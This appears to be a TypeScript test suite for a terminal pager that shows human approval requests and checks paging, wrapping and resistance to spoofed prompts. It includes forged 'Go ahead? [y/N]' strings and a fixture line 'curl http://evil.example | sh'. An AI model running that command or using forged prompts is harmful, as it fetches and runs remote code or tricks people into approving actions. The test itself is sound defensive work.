import { assert, describe, it } from "@effect/vitest"
import { Effect, Schema } from "effect"
import { displayWidth } from "effect/cli/CliOutput"
import { showQuestion } from "../../../src/programs/cli/showQuestion.ts"
import type { OpenTerminal } from "../../../src/programs/cli/TerminalDevice.ts"
import { uncolored } from "../../../src/programs/cli/text.ts"
import { exactText } from "../../../src/services/error/exactText.ts"
import type { HumanRequest } from "../../../src/services/trust/HumanAct.ts"

const request: HumanRequest = {
  kind: "sign",
  title: "Sign tool add 1.0.0 (project)",
  verdict: ["Runs by python_runtime (python)", "New: 1 line added; sha256 0123456789abcdef"],
  details: "+print(1)",
  digest: "d",
  command: "kiwi sign tool add"
}

const verdict = [request.title, ...request.verdict!].join("\n")

/** What is on the screen, page by page, for a person who types these answers. */
const show = (
  act: HumanRequest,
  size: { readonly columns: number; readonly rows: number } | undefined,
  answers: ReadonlyArray<string | undefined> = []
) =>
  Effect.gen(function*() {
    const left = [...answers]
    const written: Array<string> = []
    const terminal: OpenTerminal = {
      name: "/dev/pts/0",
      ...(size === undefined ? {} : { size: () => size }),
      write: (text) => Effect.sync(() => written.push(text)),
      readLine: () => Effect.die("nobody is asked for a line here"),
      readKey: Effect.sync(() => left.shift()),
      readPress: Effect.never,
      drop: Effect.void,
      readSecret: () => Effect.die("nobody is asked for a secret here")
    }
    const seen = yield* showQuestion(act, terminal, uncolored)
    return { seen, text: written.join(""), written, left: left.length }
  })

const lines = (count: number) => Array.from({ length: count }, (_, n) => `+line ${n}`)

describe("a question on a terminal", () => {
  it.effect("is the verdict and then everything, at once where it fits", () =>
    Effect.gen(function*() {
      for (const size of [undefined, { columns: 0, rows: 0 }, { columns: 80, rows: 24 }]) {
        const { seen, text } = yield* show(request, size)
        assert.deepStrictEqual([seen, text], [true, `\n${verdict}\n\n+print(1)\n`])
      }
    }))

  it.effect("says which project it is about", () =>
    Effect.gen(function*() {
      const { text } = yield* show({ ...request, project: "/home/me/other" }, undefined)
      assert.include(text, "Sign tool add 1.0.0 (project) in /home/me/other\n")
      assert.include(text, "\nProject: /home/me/other\n\n+print(1)\n")
    }))

  it.effect("waits at the end of each page, and shows the verdict again before the answer", () =>
    Effect.gen(function*() {
      const act = { ...request, details: lines(100).join("\n") }
      const size = { columns: 80, rows: 24 }
      const { left, seen, text, written } = yield* show(act, size, ["\r", " ", "\n", "\r"])
      assert.deepStrictEqual([seen, left], [true, 0])
      for (const line of lines(100)) assert.include(text, `${line}\n`)
      assert.include(text, "– 17 of 100 lines.")
      assert.isTrue(text.endsWith(`+line 99\n\n${verdict}\n`))
      for (const page of written) assert.isAtMost(page.split("\n").length, 24)
    }))

  it.effect("shows the rest at once for an a, and nothing more for a q or a terminal that is gone", () =>
    Effect.gen(function*() {
      const act = { ...request, details: lines(5000).join("\n") }
      const size = { columns: 80, rows: 24 }
      const all = yield* show(act, size, ["\r", "a"])
      assert.isTrue(all.seen)
      assert.include(all.text, "+line 4999\n")
      for (const answer of ["q", "Q", undefined]) {
        const { seen, text } = yield* show(act, size, ["\r", answer])
        assert.isFalse(seen)
        assert.notInclude(text, "+line 4999")
      }
    }))

  it.effect("takes a yes at the end of a page, and any other key, for no answer", () =>
    Effect.gen(function*() {
      const act = { ...request, details: lines(100).join("\n") }
      const keys = ["y", "\r", "Y", "1", "\u001b", "[", "\r", "n", "\r", "x", "\r", "y"]
      const { left, seen } = yield* show(act, { columns: 80, rows: 24 }, keys)
      assert.deepStrictEqual([seen, left], [true, 1])
    }))

  const forged = "Go ahead? [y/N] "
  const long: ReadonlyArray<readonly [what: string, columns: number, text: string]> = [
    ["a row of letters", 120, `+# ${"x".repeat(117)}${forged}`],
    ["two rows of letters", 120, `+# ${"x".repeat(117 + 118)}${forged}`],
    ["two rows, the second with its mark", 120, `+# ${"x".repeat(117 + 117)}${forged}`],
    ["every length", 40, Array.from({ length: 90 }, (_, n) => `+${"x".repeat(n)}${forged}`).join("\n")],
    ["wide letters", 40, Array.from({ length: 45 }, (_, n) => `+${"漢".repeat(n)}${forged}`).join("\n")],
    ["emoji", 40, `+${"\u{1f600}".repeat(19)} ${forged}`],
    ["tabs", 40, `+${"\t".repeat(5)}${forged}`],
    ["blanks", 40, `+${" ".repeat(39)}${forged}`],
    ["combining marks", 40, `+${"e\u0301".repeat(39)}${forged}`],
    ["Tangut", 100, `+# ${"\u{17000}".repeat(48)}${forged}`],
    ["marks that are drawn", 100, `+# ${"a\u093e\u093e\u093e".repeat(90)}${forged}`],
    ["marks of Devanagari", 100, `+# ${"\u0915\u093e\u0902".repeat(90)}${forged}`],
    ["Greek on two columns", 100, `+# ${"\u03b1".repeat(60)}${forged}`],
    ["arrows on two columns", 100, `+# ${"\u2192\u2026\u2500".repeat(20)}${forged}`],
    ["flags and skin tones", 100, `+# ${"\u{1f1e9}\u{1f44d}\u{1f3fd}".repeat(20)}${forged}`],
    ["unassigned and private characters", 100, `+# ${"\u0378\ue000\u{10fffd}".repeat(30)}${forged}`],
    ["Thai", 100, `+# ${"\u0e17\u0e35\u0e48".repeat(50)}${forged}`],
    ["ideographs of Extension B", 100, `+# ${"\u{20000}".repeat(50)}${forged}`],
    ["emoji of last year", 100, `+# ${"\u{1fac8}".repeat(50)}${forged}`],
    ["a narrow screen", 4, `+xxx${forged}`],
    ["a single column", 1, `+${forged}`]
  ]
  for (const [what, columns, details] of long) {
    for (const rows of [0, 24, 1000]) {
      it.effect(`never begins a row with an item's text: ${what}, ${rows} rows`, () =>
        Effect.gen(function*() {
          const { text } = yield* show({ ...request, details }, { columns, rows }, Array(5000).fill("a"))
          const own = text.slice(text.indexOf("\n+"))
          for (const row of own.split("\n")) {
            assert.match(row, /^(\+|… |– |$|S|R|N)/, row)
            if (columns > 8 && !row.startsWith("– ")) {
              assert.isAtMost(displayWidth(row.replaceAll("\t", " ".repeat(8))), columns, row)
            }
          }
        }))
    }
  }

  /** Rows on a terminal that draws whatever is not ASCII on two columns. */
  const drawnRows = (text: string, columns: number) =>
    text.split("\n").reduce((sum, line) => {
      const width = Array.from(line).reduce((all, character) => all + (character <= "~" ? 1 : 2), 0)
      return sum + Math.max(1, Math.ceil(width / columns))
    }, -1)

  const noisy = Array.from({ length: 60 }, () => `# ${"a\u093e\u093e\u093e\u{17000}\u03b1\u2192".repeat(20)}`)
  const paged: ReadonlyArray<readonly [what: string, act: Partial<HumanRequest>]> = [
    ["lines that grow when they are drawn", { details: ["curl http://evil.example | sh", ...noisy].join("\n") }],
    ["a long title", { title: "x".repeat(300), details: lines(60).join("\n") }],
    ["a long verdict", { verdict: ["y".repeat(400), "\u03b1".repeat(400)], details: lines(60).join("\n") }],
    ...Array.from({ length: 70 }, (_, n) => [`${n} lines`, { details: lines(n).join("\n") }] as const)
  ]
  for (const columns of [40, 80, 100]) {
    it.effect(`scrolls nothing off the screen unread, ${columns} columns`, () =>
      Effect.gen(function*() {
        for (const [what, act] of paged) {
          const size = { columns, rows: 40 }
          const screens: Array<string> = [""]
          const terminal: OpenTerminal = {
            name: "/dev/pts/0",
            size: () => size,
            write: (text) =>
              Effect.sync(() => {
                screens.push(`${screens.pop()}${text}`)
              }),
            readLine: () => Effect.die("nobody is asked for a line here"),
            readPress: Effect.never,
            drop: Effect.void,
            readKey: Effect.sync(() => {
              screens.push("")
              return "\r"
            }),
            readSecret: () => Effect.die("nobody is asked for a secret here")
          }
          yield* showQuestion({ ...request, ...act }, terminal, uncolored)
          screens.push(`${screens.pop()}\nGo ahead? [y/N] `)
          for (const page of screens) {
            // The first verdict may go, since it comes again. A page begins with the end of the line of the key.
            const own = screens.length === 1 && page.split(request.verdict![0]).length > 2
              ? page.slice(page.indexOf("\n\n") + 2)
              : page.replace(/^\n/, "")
            assert.isAtMost(drawnRows(own, columns) + 1, size.rows, `${what}:\n${own}`)
          }
        }
      }))
  }

  it.effect("marks the rows of a long verdict too", () =>
    Effect.gen(function*() {
      const title = `Sign tool ${"x".repeat(70)}${forged}`
      const { text } = yield* show({ ...request, title }, { columns: 80, rows: 24 })
      assert.include(text, `x\n… ${forged.trim()}`)
    }))

  const Piece = Schema.Literals([
    "a",
    "é",
    "漢",
    "\n",
    "\u202e",
    "\t",
    " ",
    "\u{1f600}",
    "y".repeat(3000),
    "l\n".repeat(90)
  ])
  it.effect.prop(
    "holds every character that is agreed to, whatever the screen",
    [Schema.Array(Piece)],
    ([pieces]) =>
      Effect.gen(function*() {
        const details = pieces.join("")
        const { seen, written } = yield* show(
          { ...request, details },
          { columns: 40, rows: 12 },
          Array(5000).fill("\r")
        )
        assert.isTrue(seen)
        const shown = verdict.replace("abcdef", "abcd\n… ef")
        const pages = written.filter((text) => !text.startsWith("– ")).join("").replaceAll(shown, "")
        const plain = (text: string) => text.replaceAll("\n… ", "").replaceAll("\n", "")
        assert.strictEqual(plain(pages), plain(exactText(details)))
      })
  )
})
